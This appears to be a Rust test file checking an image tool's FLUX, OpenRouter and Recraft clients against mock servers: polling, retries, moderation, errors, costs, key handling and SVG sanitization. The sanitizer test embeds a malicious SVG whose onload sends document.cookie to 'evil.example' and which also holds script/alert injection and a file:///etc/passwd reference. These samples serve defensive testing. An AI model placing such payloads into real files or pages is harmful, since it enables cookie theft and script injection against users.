//! The hosted kinds added for FLUX, OpenRouter and Recraft, each against a loopback server that
//! speaks its API: FLUX's submit, poll and download (pending then ready, moderation, an expired
//! sample, a polling URL elsewhere), OpenRouter's image message, and Recraft's vector answer,
//! whose SVG must come out clean.

use std::time::Duration;

use serde_json::{Value, json};
use wiremock::matchers::{body_json, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::config::Size;
use crate::provider::ImageFormat;
use crate::test_support::books::{config as book, request};
use crate::test_support::env::{KEY, Run, generate, generate_keyed};
use crate::test_support::images::{b64, png};
use crate::test_support::servers::{
    Auth, authed, bfl_ready, bfl_status, bfl_submit, posts, profile, requests, serve_download,
};

/// Generates "A lighthouse" with the book's profile `p`.
async fn lighthouse(config: crate::config::Config) -> Run {
    let request = request(&config, "A lighthouse");
    generate(config, request).await
}

#[tokio::test]
async fn bfl_submits_polls_until_ready_and_downloads_the_sample_without_the_key() {
    let server = MockServer::start().await;
    authed("POST", "/v1/flux-2-pro", Auth::XKey)
        .and(body_json(json!({
            "prompt": "A lighthouse", "width": 1024, "height": 768, "output_format": "png", "seed": 7
        })))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "id": "task-1", "polling_url": format!("{}/v1/get_result?id=task-1", server.uri()), "cost": 3.5
        })))
        .expect(1)
        .mount(&server)
        .await;
    authed("GET", "/v1/get_result", Auth::XKey)
        .respond_with(bfl_status("Pending", Value::Null, Value::Null))
        .up_to_n_times(2)
        .mount(&server)
        .await;
    authed("GET", "/v1/get_result", Auth::XKey)
        .respond_with(bfl_status(
            "Ready",
            json!({ "sample": format!("{}/delivery/sample.png?se=1&sig=abc", server.uri()), "seed": 7, "prompt": "A lighthouse" }),
            Value::Null,
        ))
        .mount(&server)
        .await;
    serve_download(&server, "/delivery/sample.png", png(32, 24)).await;
    let config = book(profile("bfl", "flux-2-pro", &server, "/v1"), json!({}));
    let mut request = request(&config, "A lighthouse");
    request.seed = Some(7);
    request.size = Size {
        width: 1024,
        height: 768,
    };
    let run = generate(config, request).await;
    // Three polls, waiting longer each time.
    assert_eq!(
        run.waits,
        [500, 1000, 2000].map(Duration::from_millis).to_vec()
    );
    let master = run.master();
    assert_eq!((master.width, master.height), (32, 24));
    // 3.5 credits at a cent each.
    assert!((master.cost_usd - 0.035).abs() < 1e-9);
    assert_eq!(master.provenance.seed, Some(7));
    assert_eq!(master.provenance.request_id.as_deref(), Some("task-1"));
}

#[tokio::test]
async fn bfl_fits_sizes_to_its_grid_and_flux_3_takes_a_ratio() {
    let server = MockServer::start().await;
    let polling = format!("{}/v1/get_result?id=task-1", server.uri());
    // FLUX.2 on a 16 grid; FLUX 3 a ratio and a tier; FLUX1.1 [pro] multiples of 32 within 256
    // to 1440; Ultra and Kontext a ratio only.
    let prompt = "A lighthouse\n\nAvoid: people.";
    for (model, body) in [
        (
            "flux-2-max",
            json!({ "prompt": prompt, "width": 1600, "height": 896, "output_format": "jpeg" }),
        ),
        (
            "flux-3-image",
            json!({ "prompt": prompt, "aspect_ratio": "16:9", "resolution": "1k" }),
        ),
        (
            "flux-pro-1.1",
            json!({ "prompt": prompt, "width": 1408, "height": 800, "output_format": "png" }),
        ),
        (
            "flux-pro-1.1-ultra",
            json!({ "prompt": prompt, "aspect_ratio": "16:9", "output_format": "png" }),
        ),
        (
            "flux-kontext-pro",
            json!({ "prompt": prompt, "aspect_ratio": "16:9", "output_format": "png" }),
        ),
    ] {
        Mock::given(method("POST"))
            .and(path(format!("/v1/{model}")))
            .and(body_json(body))
            .respond_with(
                ResponseTemplate::new(200)
                    .set_body_json(json!({ "id": "task-1", "polling_url": polling })),
            )
            .expect(1)
            .mount(&server)
            .await;
    }
    bfl_ready(&server, png(16, 9)).await;
    for (model, sent) in [
        ("flux-2-max", "1600x896"),
        ("flux-3-image", "16:9 1k"),
        ("flux-pro-1.1", "1408x800"),
        ("flux-pro-1.1-ultra", "16:9"),
        ("flux-kontext-pro", "16:9"),
    ] {
        let mut profile = profile("bfl", model, &server, "/v1");
        if model == "flux-2-max" {
            profile["output-format"] = "jpeg".into();
        }
        let config = book(profile, json!({}));
        let mut request = request(&config, "A lighthouse");
        request.negative = Some("people".into());
        request.size = Size {
            width: 1600,
            height: 900,
        };
        let master = generate(config, request).await.master();
        assert_eq!(master.provenance.sent_size.as_deref(), Some(sent));
        // No `cost` in the answer: the price table's estimate.
        if model == "flux-2-max" {
            assert!(
                (master.cost_usd - (0.07 + 0.4336 * 0.03)).abs() < 1e-4,
                "{}",
                master.cost_usd
            );
        }
    }
}

#[tokio::test]
async fn a_failed_poll_is_polled_again_and_never_pays_twice() {
    let server = MockServer::start().await;
    bfl_submit(
        &server,
        "flux-2-pro",
        &format!("{}/v1/get_result?id=task-1", server.uri()),
    )
    .await;
    for answer in [
        ResponseTemplate::new(503).set_body_string("upstream busy"),
        ResponseTemplate::new(200).set_body_string("<html>gateway</html>"),
        bfl_status("Warming Up", Value::Null, Value::Null),
    ] {
        Mock::given(method("GET"))
            .and(path("/v1/get_result"))
            .respond_with(answer)
            .up_to_n_times(1)
            .mount(&server)
            .await;
    }
    bfl_ready(&server, png(8, 8)).await;
    let config = book(
        profile("bfl", "flux-2-pro", &server, "/v1"),
        json!({ "retries": 0 }),
    );
    let run = lighthouse(config).await;
    assert_eq!(run.waits.len(), 4);
    assert_eq!(run.master().width, 8);
    let posts = posts(&server).await;
    assert_eq!(posts, 1);
}

#[tokio::test]
async fn bfl_moderation_is_a_refusal_and_is_never_retried() {
    for (status, says) in [
        ("Request Moderated", "flagged the prompt (Violence)"),
        ("Content Moderated", "flagged the image (Violence)"),
    ] {
        let server = MockServer::start().await;
        bfl_submit(
            &server,
            "flux-2-pro",
            &format!("{}/v1/get_result?id=task-1", server.uri()),
        )
        .await;
        Mock::given(method("GET"))
            .and(path("/v1/get_result"))
            .respond_with(bfl_status(
                status,
                Value::Null,
                json!({ "Moderation Reasons": ["Violence"] }),
            ))
            .mount(&server)
            .await;
        let config = book(profile("bfl", "flux-2-pro", &server, "/v1"), json!({}));
        let failure = lighthouse(config).await.failure();
        assert!(
            failure.message.contains("refused the prompt"),
            "{}",
            failure.message
        );
        assert!(failure.message.contains(says), "{}", failure.message);
        assert!(!failure.may_fall_back);
        let posts = posts(&server).await;
        assert_eq!(posts, 1);
    }
}

#[tokio::test]
async fn an_expired_sample_is_requested_again_and_a_lost_task_fails_clearly() {
    let server = MockServer::start().await;
    bfl_submit(
        &server,
        "flux-2-pro",
        &format!("{}/v1/get_result?id=task-1", server.uri()),
    )
    .await;
    Mock::given(method("GET"))
        .and(path("/v1/get_result"))
        .respond_with(bfl_status(
            "Ready",
            json!({ "sample": format!("{}/delivery/old.png?se=1", server.uri()) }),
            Value::Null,
        ))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/delivery/old.png"))
        .respond_with(ResponseTemplate::new(403).set_body_string(
            "<Error><Code>AuthenticationFailed</Code><Message>Signed expiry time has passed</Message></Error>",
        ))
        .mount(&server)
        .await;
    let config = book(
        profile("bfl", "flux-2-pro", &server, "/v1"),
        json!({ "retries": 1 }),
    );
    let failure = lighthouse(config).await.failure();
    assert!(failure.message.contains("expired"), "{}", failure.message);
    assert!(
        failure.message.contains("gave up after 2 attempts"),
        "{}",
        failure.message
    );
    assert!(failure.may_fall_back);
    // Each attempt submitted again: a new sample.
    let posts = posts(&server).await;
    assert_eq!(posts, 2);

    let server = MockServer::start().await;
    bfl_submit(
        &server,
        "flux-2-pro",
        &format!("{}/v1/get_result?id=task-1", server.uri()),
    )
    .await;
    Mock::given(method("GET"))
        .respond_with(bfl_status("Task not found", Value::Null, Value::Null))
        .mount(&server)
        .await;
    let config = book(
        profile("bfl", "flux-2-pro", &server, "/v1"),
        json!({ "retries": 0 }),
    );
    let failure = lighthouse(config).await.failure();
    assert!(
        failure.message.contains("Task not found"),
        "{}",
        failure.message
    );
}

#[tokio::test]
async fn bfl_never_follows_or_sends_the_key_elsewhere() {
    for elsewhere in [
        "https://evil.example/v1/get_result?id=task-1".to_owned(),
        "http://127.0.0.1:9/v1/get_result?id=task-1".to_owned(),
        "ftp://127.0.0.1/x".to_owned(),
    ] {
        let server = MockServer::start().await;
        bfl_submit(&server, "flux-2-pro", &elsewhere).await;
        let config = book(profile("bfl", "flux-2-pro", &server, "/v1"), json!({}));
        let failure = lighthouse(config).await.failure();
        assert!(
            failure.message.contains("never sent there"),
            "{}",
            failure.message
        );
        assert!(!failure.message.contains(KEY));
        assert_eq!(requests(&server).await, 1);
    }
    // A sample anywhere but https (or this server) is not downloaded.
    let server = MockServer::start().await;
    bfl_submit(
        &server,
        "flux-2-pro",
        &format!("{}/v1/get_result?id=task-1", server.uri()),
    )
    .await;
    Mock::given(method("GET"))
        .respond_with(bfl_status(
            "Ready",
            json!({ "sample": "http://127.0.0.1:9/s.png" }),
            Value::Null,
        ))
        .mount(&server)
        .await;
    let config = book(profile("bfl", "flux-2-pro", &server, "/v1"), json!({}));
    let failure = lighthouse(config).await.failure();
    assert!(
        failure.message.contains("not downloaded"),
        "{}",
        failure.message
    );
}

#[tokio::test]
async fn bfl_errors_credit_validation_and_rate_limits() {
    let cases = [
        (
            402,
            json!({ "detail": "Insufficient credits" }),
            "out of quota",
            "Insufficient credits",
        ),
        (
            422,
            json!({ "detail": [{ "loc": ["body", "width"], "msg": "must be a multiple of 16", "type": "value_error" }] }),
            "rejected the request",
            "body.width: must be a multiple of 16",
        ),
        (
            403,
            json!({ "detail": "Not authenticated" }),
            "refused the key",
            "BFL_API_KEY",
        ),
    ];
    for (status, body, what, says) in cases {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(status).set_body_json(body))
            .mount(&server)
            .await;
        let mut profile = profile("bfl", "flux-2-pro", &server, "/v1");
        if status == 403 {
            profile.as_object_mut().unwrap().remove("api-key-env");
        }
        let config = book(profile, json!({}));
        let run = {
            let var_config = config.clone();
            let request = request(&var_config, "A lighthouse");
            let key_var = if status == 403 {
                "BFL_API_KEY"
            } else {
                "TEST_KEY"
            };
            generate_keyed(var_config, request, key_var).await
        };
        let failure = run.failure();
        assert!(failure.message.contains(what), "{}", failure.message);
        assert!(failure.message.contains(says), "{}", failure.message);
        assert_eq!(requests(&server).await, 1);
    }

    // Too many active tasks: retried after the backoff.
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(
            ResponseTemplate::new(429).set_body_json(json!({ "detail": "Too many active tasks" })),
        )
        .mount(&server)
        .await;
    let config = book(
        profile("bfl", "flux-2-pro", &server, "/v1"),
        json!({ "retries": 2 }),
    );
    let run = lighthouse(config).await;
    assert_eq!(run.waits.len(), 2);
    assert!(run.failure().message.contains("Too many active tasks"));
}

#[tokio::test]
async fn a_task_that_stays_pending_fails_when_the_timeout_has_passed() {
    let server = MockServer::start().await;
    bfl_submit(
        &server,
        "flux-2-pro",
        &format!("{}/v1/get_result?id=task-1", server.uri()),
    )
    .await;
    Mock::given(method("GET"))
        .respond_with(bfl_status("Pending", Value::Null, Value::Null))
        .mount(&server)
        .await;
    let mut profile = profile("bfl", "flux-2-pro", &server, "/v1");
    profile["timeout"] = "3s".into();
    let config = book(profile, json!({ "retries": 0 }));
    let run = lighthouse(config).await;
    assert_eq!(run.waits.len(), 3, "{:?}", run.waits);
    assert!(run.failure().message.contains("not ready within 3s"));
}

fn openrouter_ok(image: &[u8], media_type: &str) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(json!({
        "id": "gen-1764-abc",
        "provider": "Google",
        "model": "google/gemini-3.1-flash-image",
        "object": "chat.completion",
        "choices": [{
            "finish_reason": "stop",
            "native_finish_reason": "STOP",
            "message": {
                "role": "assistant",
                "content": "Here is the lighthouse.",
                "images": [{ "type": "image_url", "image_url": { "url": format!("data:{media_type};base64,{}", b64(image)) } }]
            }
        }],
        "usage": { "prompt_tokens": 9, "completion_tokens": 1290, "total_tokens": 1299, "cost": 0.0672 }
    }))
}

#[tokio::test]
async fn openrouter_sends_modalities_and_image_config_and_reads_the_image_message() {
    let server = MockServer::start().await;
    authed("POST", "/api/v1/chat/completions", Auth::Bearer)
        .and(body_json(json!({
            "model": "google/gemini-3.1-flash-image",
            "messages": [{ "role": "user", "content": "A lighthouse" }],
            "modalities": ["image", "text"],
            "image_config": { "aspect_ratio": "16:9", "image_size": "2K" },
            "seed": 3
        })))
        .respond_with(openrouter_ok(&png(32, 18), "image/png"))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/api/v1/chat/completions"))
        .and(body_json(json!({
            "model": "black-forest-labs/flux.2-pro",
            "messages": [{ "role": "user", "content": "A lighthouse" }],
            "modalities": ["image"],
            "image_config": { "aspect_ratio": "1:1" }
        })))
        .respond_with(openrouter_ok(&png(16, 16), "image/png"))
        .expect(1)
        .mount(&server)
        .await;
    let config = book(
        profile(
            "openrouter",
            "google/gemini-3.1-flash-image",
            &server,
            "/api/v1",
        ),
        json!({}),
    );
    let mut request_google = request(&config, "A lighthouse");
    request_google.seed = Some(3);
    request_google.size = Size {
        width: 1600,
        height: 900,
    };
    let master = generate(config, request_google).await.master();
    assert_eq!((master.width, master.height), (32, 18));
    assert!((master.cost_usd - 0.0672).abs() < 1e-9);
    assert_eq!(
        master.provenance.request_id.as_deref(),
        Some("gen-1764-abc")
    );
    assert_eq!(master.provenance.sent_size.as_deref(), Some("16:9 2K"));

    let config = book(
        profile(
            "openrouter",
            "black-forest-labs/flux.2-pro",
            &server,
            "/api/v1",
        ),
        json!({}),
    );
    let master = lighthouse(config).await.master();
    assert_eq!(master.width, 16);
}

#[tokio::test]
async fn openrouter_failures_have_their_kinds() {
    let moderation = ResponseTemplate::new(403).set_body_json(json!({
        "error": { "code": 403, "message": "Input was flagged",
                   "metadata": { "reasons": ["violence"], "flagged_input": "A lighthouse…", "provider_name": "Google", "model_slug": "google/x" } }
    }));
    let credit = ResponseTemplate::new(402).set_body_json(json!({
        "error": { "code": 402, "message": "Insufficient credits. Add more using https://openrouter.ai/credits" }
    }));
    let late = ResponseTemplate::new(200).set_body_json(json!({
        "id": "gen-2", "error": { "code": 502, "message": "Provider returned error" }
    }));
    let text_only = ResponseTemplate::new(200).set_body_json(json!({
        "id": "gen-3", "choices": [{ "finish_reason": "stop", "message": { "role": "assistant", "content": "I can only describe it." } }]
    }));
    let filtered = ResponseTemplate::new(200).set_body_json(json!({
        "id": "gen-4", "choices": [{ "finish_reason": "content_filter", "native_finish_reason": "IMAGE_SAFETY", "message": { "role": "assistant", "content": null } }]
    }));
    let cases = [
        (moderation, "refused the prompt", "flagged: violence", 1),
        (credit, "out of quota", "Insufficient credits", 1),
        (late, "failed", "Provider returned error", 2),
        (text_only, "returned no image", "I can only describe it.", 2),
        (filtered, "refused the prompt", "IMAGE_SAFETY", 1),
    ];
    for (answer, what, says, calls) in cases {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(answer)
            .mount(&server)
            .await;
        let config = book(
            profile(
                "openrouter",
                "google/gemini-2.5-flash-image",
                &server,
                "/api/v1",
            ),
            json!({ "retries": 1 }),
        );
        let failure = lighthouse(config).await.failure();
        assert!(failure.message.contains(what), "{}", failure.message);
        assert!(failure.message.contains(says), "{}", failure.message);
        assert_eq!(requests(&server).await, calls, "{}", failure.message);
    }
}

/// An SVG with everything a sanitizer must remove.
const MALICIOUS_SVG: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1820 1024" onload="fetch('https://evil.example/?c='+document.cookie)">
  <script type="text/javascript">alert(document.domain)</script>
  <rect width="1820" height="1024" fill="#1d3557" onclick="alert(1)"/>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <image xlink:href="file:///etc/passwd"/>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <circle cx="910" cy="512" r="300" fill="#f1faee"/>
</svg>"##;

#[tokio::test]
async fn recraft_vector_answers_are_sanitized_svg_masters() {
    let server = MockServer::start().await;
    authed("POST", "/v1/images/generations", Auth::Bearer)
        .and(body_json(json!({
            "model": "recraftv3_vector",
            "prompt": "A lighthouse",
            "size": "1820x1024",
            "n": 1,
            "response_format": "b64_json",
            "negative_prompt": "people",
            "style": "vector_illustration",
            "substyle": "line_art"
        })))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "created": 1_764_000_000, "credits": 80,
            "data": [{ "image_id": "3f1c-aa", "b64_json": b64(MALICIOUS_SVG.as_bytes()) }]
        })))
        .expect(1)
        .mount(&server)
        .await;
    let mut profile = profile("recraft", "recraftv3_vector", &server, "/v1");
    profile["extra"] = json!({ "style": "vector_illustration", "substyle": "line_art" });
    let config = book(profile, json!({}));
    let mut request = request(&config, "A lighthouse");
    request.negative = Some("people".into());
    request.size = Size {
        width: 1600,
        height: 900,
    };
    let master = generate(config, request).await.master();
    assert_eq!(master.format, ImageFormat::Svg);
    assert_eq!((master.width, master.height), (1820, 1024));
    assert!((master.cost_usd - 0.08).abs() < 1e-9);
    assert_eq!(master.provenance.request_id.as_deref(), Some("3f1c-aa"));
    let svg = String::from_utf8(master.bytes.clone()).unwrap();
    for bad in [
        "script",
        "onload",
        "onclick",
        "evil.example",
        "file:",
        "foreignObject",
        "alert",
    ] {
        assert!(!svg.contains(bad), "`{bad}` survived: {svg}");
    }
    assert!(svg.contains("<circle cx=\"910\" cy=\"512\" r=\"300\" fill=\"#f1faee\"/>"));
    // What is cached passes the cache's check as it is.
    assert_eq!(
        crate::provider::answer::check(&master.bytes).unwrap(),
        (ImageFormat::Svg, 1820, 1024)
    );
    // A crafted master in a pull request passes too, but only its sanitized form is ever shown.
    assert_ne!(
        crate::svg::sanitize(MALICIOUS_SVG.as_bytes())
            .unwrap()
            .bytes,
        MALICIOUS_SVG.as_bytes()
    );
}

#[tokio::test]
async fn recraft_raster_sizes_urls_and_plain_text_errors() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v1/images/generations"))
        .and(body_json(json!({
            "model": "recraftv4_1", "prompt": "A lighthouse\n\nAvoid: people.", "size": "1344x768",
            "n": 1, "response_format": "b64_json"
        })))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "created": 1, "credits": 35,
            "data": [{ "image_id": "x", "url": format!("{}/img/x.webp", server.uri()) }]
        })))
        .expect(1)
        .mount(&server)
        .await;
    serve_download(&server, "/img/x.webp", png(16, 9)).await;
    let config = book(profile("recraft", "recraftv4_1", &server, "/v1"), json!({}));
    let mut request = request(&config, "A lighthouse");
    request.negative = Some("people".into());
    request.size = Size {
        width: 1600,
        height: 900,
    };
    let master = generate(config, request).await.master();
    assert!((master.cost_usd - 0.035).abs() < 1e-9);
    assert_eq!(master.provenance.sent_size.as_deref(), Some("1344x768"));

    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(
            ResponseTemplate::new(401)
                .insert_header("content-type", "text/plain")
                .set_body_string(format!("request unauthorized: token {KEY} is not valid")),
        )
        .mount(&server)
        .await;
    let config = book(profile("recraft", "recraftv3", &server, "/v1"), json!({}));
    let failure = generate(
        config.clone(),
        crate::test_support::books::request(&config, "A lighthouse"),
    )
    .await
    .failure();
    assert!(
        failure.message.contains("refused the key"),
        "{}",
        failure.message
    );
    assert!(failure.message.contains("request unauthorized"));
    assert!(!failure.message.contains(KEY), "{}", failure.message);
    assert_eq!(requests(&server).await, 1);
}
